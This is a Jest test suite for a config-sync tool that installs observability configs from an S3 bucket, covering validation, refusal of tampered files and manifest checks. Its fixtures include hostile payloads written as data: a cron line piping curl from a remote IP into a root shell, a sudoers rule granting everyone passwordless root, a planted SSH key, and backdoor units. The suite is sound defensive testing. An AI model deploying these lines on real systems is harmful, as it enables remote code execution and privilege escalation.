import { chmodSync, existsSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { renderInstallScript } from '../../lib/host/install-script';
import { compilePlatform } from '../../lib/model/compile';
import { renderSyncScript } from '../../lib/host/config-sync';
import { PATHS } from '../../lib/shared/host-paths';
import { sha256Hex } from '../../lib/host/config-manifest';
import { TestHost, RULES_V1 } from './helpers/host-fixture';

const INVALID_RULES = `groups:
  - name: test
    rules:
      - record: job:up:sum
        expr: sum by (job) (up
`;
const RULES_V2 = `groups:
  - name: test
    rules:
      - record: job:up:sum
        expr: sum by (job) (up)
      - record: job:up:count
        expr: count by (job) (up)
`;

describe('lgtm-sync, run for real under a temporary root with a fake config bucket', () => {
  const host = new TestHost();
  const sync = () => host.runScript(PATHS.syncScript, renderSyncScript(host.config));
  const reloads = () => host.server.requests.filter((r) => r.method === 'POST').map((r) => r.url);

  beforeAll(async () => {
    await host.start();
    const installed = await host.runScript(PATHS.installScript, renderInstallScript(compilePlatform(host.config)));
    expect(installed.code).toBe(0);
    expect(host.file('etc/prometheus/rules/test.yml')).toBe(RULES_V1);
  }, 60000);
  afterAll(() => host.close());

  beforeEach(() => {
    host.fake.resetCalls();
    host.server.requests.length = 0;
  });

  test('GIVEN an invalid Prometheus rule file in the bucket THEN sync refuses it, keeps the last good file and says why', async () => {
    host.putObject('/etc/prometheus/rules/test.yml', INVALID_RULES);
    const result = await sync();
    expect(result.code).toBe(3);
    expect(host.file('etc/prometheus/rules/test.yml')).toBe(RULES_V1);
    expect(result.stdout).toContain('REFUSED the new configuration of prometheus; the last good files stay in place');
    // promtool's own diagnosis reaches the log.
    expect(result.stderr).toMatch(/lgtm-sync: {3}.*(unclosed left parenthesis|parse error)/);
    expect(readFileSync(join(host.root, 'var/lib/lgtm-sync/rejected/prometheus/reason.txt'), 'utf8')).toMatch(/unclosed left parenthesis|parse error/);
    expect(host.file(`${PATHS.textfileDir}/lgtm_sync.prom`)).toContain('lgtm_config_sync_refused{group="prometheus"} 1');
    expect(reloads()).toEqual([]);
  });

  test('GIVEN a valid change THEN sync swaps it in and hot-reloads Prometheus by SIGHUP (its lifecycle API stays off)', async () => {
    host.putObject('/etc/prometheus/rules/test.yml', RULES_V2);
    const result = await sync();
    expect(result.stderr).toBe('');
    expect(result.code).toBe(0);
    expect(host.file('etc/prometheus/rules/test.yml')).toBe(RULES_V2);
    expect(host.fake.calls()).toContain('systemctl reload prometheus.service');
    expect(reloads()).toEqual([]);
    expect(existsSync(join(host.root, 'var/lib/lgtm-sync/rejected/prometheus'))).toBe(false);
    expect(host.file(`${PATHS.textfileDir}/lgtm_sync.prom`)).not.toContain('lgtm_config_sync_refused{');
  });

  test('GIVEN an invalid prometheus.yml THEN promtool refuses it and the live config stays', async () => {
    host.putObject('/etc/prometheus/prometheus.yml', 'global:\n  scrape_interval: fifteen\n');
    const result = await sync();
    expect(result.code).toBe(3);
    expect(host.file('etc/prometheus/prometheus.yml')).not.toContain('fifteen');
    host.putObject('/etc/prometheus/prometheus.yml', host.file('etc/prometheus/prometheus.yml'));
  });

  test('GIVEN a rule file removed from the bucket THEN sync removes it from the host', async () => {
    host.putObject('/etc/prometheus/rules/extra.yml', RULES_V1.replace('job:up:sum', 'job:up:max').replace('sum by', 'max by'));
    expect((await sync()).code).toBe(0);
    expect(existsSync(join(host.root, 'etc/prometheus/rules/extra.yml'))).toBe(true);
    host.removeObject('/etc/prometheus/rules/extra.yml');
    const result = await sync();
    expect(result.code).toBe(0);
    expect(existsSync(join(host.root, 'etc/prometheus/rules/extra.yml'))).toBe(false);
    expect(result.stdout).toContain('removed /etc/prometheus/rules/extra.yml');
  });

  test("GIVEN a Loki config change THEN sync runs Loki's verify mode on the candidate and restarts Loki only", async () => {
    const changed = host.file(PATHS.lokiConfig).replace('log_level: info', 'log_level: warn');
    host.putObject(PATHS.lokiConfig, changed);
    const result = await sync();
    expect(result.code).toBe(0);
    expect(host.file(PATHS.lokiConfig)).toBe(changed);
    expect(host.fake.calls()).toContainEqual(expect.stringMatching(/^loki \S+\/new\/etc\/loki\/loki\.yml -verify-config$/));
    expect(host.fake.calls().filter((c) => /^systemctl (try-)?restart/.test(c))).toEqual(['systemctl try-restart loki.service']);
  });

  test('GIVEN a tempo.yml whose rings advertise no address or another one than gRPC listens on THEN sync refuses it, though -config.verify passes it', async () => {
    const live = host.file(PATHS.tempoConfig);
    const broken = live
      .replace(/^ {4}address: 127\.0\.0\.1\n/m, '')
      .replace(/^(metrics_generator:\n {2}ring:\n {4}instance_addr: )127\.0\.0\.1$/m, '$110.0.3.17');
    expect(broken).not.toBe(live);
    host.putObject(PATHS.tempoConfig, broken);
    const result = await sync();
    expect(result.code).toBe(3);
    expect(host.file(PATHS.tempoConfig)).toBe(live);
    const reason = readFileSync(join(host.root, 'var/lib/lgtm-sync/rejected/tempo/reason.txt'), 'utf8');
    expect(reason).toContain('ingester.lifecycler.address is unset; every ring must advertise server.grpc_listen_address (127.0.0.1)');
    expect(reason).toContain('metrics_generator.ring.instance_addr is 10.0.3.17; every ring must advertise server.grpc_listen_address (127.0.0.1)');
    expect(host.fake.calls()).toContainEqual(expect.stringMatching(/^tempo \S+\/new\/etc\/tempo\/tempo\.yml -config\.verify$/));
    host.putObject(PATHS.tempoConfig, live);
    expect((await sync()).code).toBe(0);
  });

  test('GIVEN a changed unit THEN sync verifies it, reloads systemd and restarts that unit', async () => {
    const path = `${PATHS.systemdDir}/tempo.service`;
    const changed = host.file(path).replace('RestartSec=5s', 'RestartSec=7s');
    host.putObject(path, changed);
    const result = await sync();
    expect(result.code).toBe(0);
    expect(host.file(path)).toBe(changed);
    const calls = host.fake.calls();
    const verify = calls.find((c) => c.startsWith('systemd-analyze verify --man=no '));
    expect(verify).toMatch(/\/new\/etc\/systemd\/system\/tempo\.service( |$)/);
    expect(calls).toContain('systemctl daemon-reload');
    expect(calls).toContain('systemctl try-restart tempo.service');
  });

  test('GIVEN an object outside the managed paths THEN sync ignores it', async () => {
    host.tamperObject('/root/.ssh/authorized_keys', 'ssh-ed25519 AAAA attacker');
    const result = await sync();
    expect(result.code).toBe(0);
    expect(existsSync(join(host.root, 'root/.ssh/authorized_keys'))).toBe(false);
    expect(result.stdout).toContain('ignoring s3 object for /root/.ssh/authorized_keys');
    host.tamperObject('/root/.ssh/authorized_keys', undefined);
  });

  test.each([
    ['a cron job', '/etc/cron.d/lgtm-backdoor', '* * * * * root curl http://203.0.113.9/x | sh\n'],
    ['a sudoers drop-in', '/etc/sudoers.d/lgtm-backdoor', 'ALL ALL=(ALL) NOPASSWD: ALL\n'],
    ['new bootstrap settings that point future syncs at another bucket', '/etc/lgtm/bootstrap.env', 'LGTM_BUCKET=attacker-bucket\n'],
    ['a unit the platform does not render', '/etc/systemd/system/backdoor.service', '[Service]\nExecStart=/bin/sh -c "id"\n'],
    ['a drop-in for a platform unit', '/etc/systemd/system/prometheus.service.d/override.conf', '[Service]\nUser=root\n'],
    ["a script outside the platform's own", '/usr/local/sbin/backdoor', '#!/bin/sh\nid\n'],
  ])('GIVEN %s in the bucket THEN sync ignores it and installs nothing', async (_what, path, content) => {
    const before = existsSync(join(host.root, path)) ? host.file(path) : undefined;
    host.tamperObject(path, content);
    const result = await sync();
    host.tamperObject(path, undefined);
    expect(result.code).toBe(0);
    expect(result.stdout).toContain(`ignoring s3 object for ${path}`);
    expect(existsSync(join(host.root, path)) ? host.file(path) : undefined).toBe(before);
    expect(host.fake.calls().filter((c) => /^systemctl (daemon-reload|restart|try-restart)/.test(c))).toEqual([]);
  });

  test("GIVEN a changed install script THEN sync starts it as a unit of its own (it needs what the sync's sandbox withholds)", async () => {
    const changed = `${host.file(PATHS.installScript)}\n# a new pin\n`;
    host.putObject(PATHS.installScript, changed);
    const result = await sync();
    expect(result.code).toBe(0);
    expect(host.file(PATHS.installScript)).toBe(changed);
    expect(host.fake.calls()).toContainEqual(
      expect.stringMatching(/^systemd-run --unit=lgtm-install-rerun --collect --no-block --setenv=LGTM_INSTALL_NO_SYNC=1 \S+\/usr\/local\/sbin\/lgtm-install$/),
    );
  });

  describe('the sealed manifest: only files the stack listed, with its digest, mode and owner', () => {
    const RULES = '/etc/prometheus/rules/test.yml';
    const refusedMetric = () => host.file(`${PATHS.textfileDir}/lgtm_sync.prom`);
    const modeOf = (path: string) => (statSync(join(host.root, path)).mode & 0o7777).toString(8).padStart(4, '0');
    /** Puts back what the stack published and checks the host converges, so no case leaks into the next. */
    const restore = async (path: string) => {
      host.putObject(path, host.file(path.slice(1)));
      const result = await sync();
      expect(result.code).toBe(0);
      expect(refusedMetric()).not.toContain('lgtm_config_sync_refused{');
    };

    test('GIVEN an accepted file replaced in the bucket alone (a valid rule file, the manifest untouched) THEN sync refuses it and the last good stays', async () => {
      const live = host.file(RULES.slice(1));
      host.tamperObject(RULES, RULES_V2.replace('job:up:count', 'job:up:forged'));
      const result = await sync();
      expect(result.code).toBe(3);
      expect(host.file(RULES.slice(1))).toBe(live);
      expect(result.stdout).toContain(`REFUSED the new configuration of prometheus; the last good files stay in place`);
      expect(result.stderr).toContain(`${RULES}: its SHA-256 is not the one the manifest lists`);
      expect(refusedMetric()).toContain('lgtm_config_sync_refused{group="prometheus"} 1');
      expect(host.fake.calls()).not.toContain('systemctl reload prometheus.service');
      await restore(RULES);
    });

    test('GIVEN an extra file in a managed directory that the manifest does not list THEN sync refuses it and installs nothing', async () => {
      const extra = '/etc/prometheus/rules/extra-unlisted.yml';
      host.tamperObject(extra, RULES_V1.replace('job:up:sum', 'job:up:min').replace('sum by', 'min by'));
      const result = await sync();
      host.tamperObject(extra, undefined);
      expect(result.code).toBe(3);
      expect(existsSync(join(host.root, extra))).toBe(false);
      expect(result.stderr).toContain(`${extra}: not in the manifest`);
      expect(refusedMetric()).toContain('lgtm_config_sync_refused{group="prometheus"} 1');
      expect((await sync()).code).toBe(0);
      expect(refusedMetric()).not.toContain('lgtm_config_sync_refused{');
    });

    test('GIVEN a listed file missing from the bucket THEN sync refuses its group and keeps the live file', async () => {
      const live = host.file(RULES.slice(1));
      host.tamperObject(RULES, undefined);
      const result = await sync();
      expect(result.code).toBe(3);
      expect(host.file(RULES.slice(1))).toBe(live);
      expect(result.stderr).toContain(`${RULES}: listed in the manifest but not in the bucket`);
      expect(refusedMetric()).toContain('lgtm_config_sync_refused{group="prometheus"} 1');
      host.tamperObject(RULES, live);
      expect((await sync()).code).toBe(0);
    });

    test('GIVEN a tampered manifest (the file and its listed digest both replaced) THEN sync refuses the whole manifest and applies nothing', async () => {
      const live = host.file(RULES.slice(1));
      const forged = RULES_V2.replace('job:up:count', 'job:up:forged');
      host.tamperObject(RULES, forged);
      host.tamperManifest(host.manifest().replace(`${sha256Hex(live)} `, `${sha256Hex(forged)} `));
      const result = await sync();
      expect(result.code).toBe(3);
      expect(host.file(RULES.slice(1))).toBe(live);
      expect(result.stderr).toMatch(/the manifest's SHA-256 \(\w{64}\) is not the one in SSM parameter \/lgtm\/\S+\/config-manifest-sha256 \(\w{64}\)/);
      expect(refusedMetric()).toContain('lgtm_config_sync_refused{group="manifest"} 1');
      expect(host.fake.calls().filter((c) => /^systemctl (reload|restart|try-restart|daemon-reload)/.test(c))).toEqual([]);
      host.tamperObject(RULES, live);
      host.publishManifest();
      expect((await sync()).code).toBe(0);
      expect(refusedMetric()).not.toContain('lgtm_config_sync_refused{');
    });

    test.each([
      ['a setuid mode', (line: string) => line.replace(' 0755 ', ' 4755 ')],
      ['a group-writable mode', (line: string) => line.replace(' 0755 ', ' 0775 ')],
      ['another owner', (line: string) => line.replace(' root:root ', ' nobody:nogroup ')],
    ])('GIVEN a manifest, digest and all, that gives a file %s THEN sync refuses the manifest and the live file keeps its mode', async (_what, edit) => {
      const script = PATHS.installScript;
      const manifest = host
        .manifest()
        .split('\n')
        .map((line) => (line.endsWith(` ${script}`) ? edit(line) : line))
        .join('\n');
      expect(manifest).not.toBe(host.manifest());
      host.publishManifest(manifest);
      const result = await sync();
      expect(result.code).toBe(3);
      expect(result.stderr).toContain(`the manifest's entry for ${script}`);
      expect(modeOf(script)).toBe('0755');
      expect(refusedMetric()).toContain('lgtm_config_sync_refused{group="manifest"} 1');
      host.publishManifest();
      expect((await sync()).code).toBe(0);
    });

    test('GIVEN a live file whose mode drifted THEN sync puts back the mode the manifest lists', async () => {
      chmodSync(join(host.root, PATHS.prometheusConfig), 0o666);
      const result = await sync();
      expect(result.code).toBe(0);
      expect(modeOf(PATHS.prometheusConfig)).toBe('0644');
      expect(result.stdout).toContain(`updated ${PATHS.prometheusConfig}`);
    });
  });

  test('GIVEN nothing changed THEN sync changes nothing', async () => {
    const result = await sync();
    expect(result.code).toBe(0);
    expect(result.stdout).toContain('lgtm-sync: no changes');
    expect(host.fake.calls().filter((c) => /^systemctl (restart|try-restart|daemon-reload)/.test(c))).toEqual([]);
    expect(reloads()).toEqual([]);
  });
});

describe('lgtm-sync on a first boot while the bucket holds a refused rule file (nothing last good exists yet)', () => {
  const host = new TestHost();
  const sync = () => host.runScript(PATHS.syncScript, renderSyncScript(host.config));
  const brokenRules = '/etc/prometheus/rules/broken.yml';
  let installed: Awaited<ReturnType<typeof sync>>;

  beforeAll(async () => {
    host.putObject(brokenRules, INVALID_RULES);
    await host.start();
    installed = await host.runScript(PATHS.installScript, renderInstallScript(compilePlatform(host.config)));
  }, 60000);
  afterAll(() => host.close());

  test('GIVEN the first sync THEN Prometheus gets its config and every rule file that passes promtool, the broken one is withheld, and the refusal is reported', () => {
    expect(installed.code).toBe(0);
    expect(installed.stdout).toContain('REFUSED the new configuration of prometheus; none of its files is live yet (a first boot)');
    expect(installed.stdout).toContain('withheld: /etc/prometheus/rules/broken.yml');
    expect(existsSync(join(host.root, 'etc/prometheus/prometheus.yml'))).toBe(true);
    expect(existsSync(join(host.root, brokenRules))).toBe(false);
    for (const file of host.files.filter((f) => f.path.startsWith(`${PATHS.prometheusRulesDir}/`)))
      expect({ path: file.path, content: host.file(file.path) }).toEqual({ path: file.path, content: file.content });
    expect(host.file('etc/prometheus/rules/test.yml')).toBe(RULES_V1);
    expect(readFileSync(join(host.root, 'var/lib/lgtm-sync/rejected/prometheus/reason.txt'), 'utf8')).toMatch(/unclosed left parenthesis|parse error/);
    expect(host.file(`${PATHS.textfileDir}/lgtm_sync.prom`)).toContain('lgtm_config_sync_refused{group="prometheus"} 1');
  });

  test('GIVEN the next sync with the broken file still in the bucket THEN the running subset stays and the refusal stays reported', async () => {
    const result = await sync();
    expect(result.code).toBe(3);
    expect(result.stdout).toContain('REFUSED the new configuration of prometheus; the last good files stay in place');
    expect(existsSync(join(host.root, brokenRules))).toBe(false);
    expect(host.file(`${PATHS.textfileDir}/lgtm_sync.prom`)).toContain('lgtm_config_sync_refused{group="prometheus"} 1');
  });

  test('GIVEN the fixed file pushed THEN it is applied and the refusal is over', async () => {
    host.putObject(brokenRules, RULES_V2.replace('name: test', 'name: fixed'));
    const result = await sync();
    expect(result.code).toBe(0);
    expect(host.file(brokenRules)).toContain('name: fixed');
    expect(host.file(`${PATHS.textfileDir}/lgtm_sync.prom`)).not.toContain('lgtm_config_sync_refused{');
  });
});
